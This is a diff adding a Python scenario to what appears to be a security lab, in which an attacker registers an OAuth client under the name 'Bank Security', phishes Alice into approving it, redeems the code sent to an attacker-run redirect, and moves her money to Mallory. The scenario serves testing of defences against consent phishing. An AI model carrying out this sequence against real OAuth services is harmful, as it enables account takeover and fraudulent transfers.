@@ -1,0 +1,44 @@
+"""A stranger's app calls itself “Bank Security”, and asks for everything."""
+
+from typing import Any
+
+from labs.stage import Stage, Stuck
+from labs.steps import step
+
+METADATA: dict[str, Any] = {"scope": "balance:read transfers:write", "token_endpoint_auth_method": "none"}
+ORDER = {"from_account": "alice-current", "to_account": "mallory-current", "amount": 100, "reference": "Safety check"}
+
+
+@step("attacker")
+def registers_under_a_good_name(stage: Stage) -> None:
+    """Register an app as “Bank Security”, for transfers; where that is refused, under a name of its own."""
+    redirect_uri = f"{stage.here.attacker}/collect"
+    for name in ("Bank Security", "Recipes"):
+        metadata = METADATA | {"client_name": name, "redirect_uris": [redirect_uri]}
+        answer = stage.attacker.ask("POST", f"{stage.here.auth}/register", json=metadata)
+        if answer.status_code == 201:
+            stage.kept["client_id"] = answer.json()["client_id"]
+            stage.onward = stage.link(stage.kept["client_id"], redirect_uri, scope="transfers:write")
+            return
+    raise Stuck("Bank ID registers no client")
+
+
+@step("Alice")
+def alice_follows_the_mail(stage: Stage) -> None:
+    """Open the link of a mail about her safety: sign in as alice, at the real Bank ID, and allow."""
+    if not stage.onward:
+        raise Stuck("there is no link yet")
+    stage.alice.go(stage.onward).agree()
+    stage.onward = ""
+
+
+@step("attacker")
+def moves_money(stage: Stage) -> None:
+    """Redeem the code, and order a transfer from Alice's account to Mallory's."""
+    code = stage.collection.newest("code")
+    if not code:
+        raise Stuck("no code came to the app")
+    form = {"redirect_uri": f"{stage.here.attacker}/collect", "code_verifier": stage.kept["verifier"]}
+    token = stage.attacker.redeem(code, client_id=stage.kept["client_id"], **form)
+    name = {"Idempotency-Key": stage.kept["verifier"]}
+    stage.attacker.bank("POST", "/transfers", token, json=ORDER, headers=name)
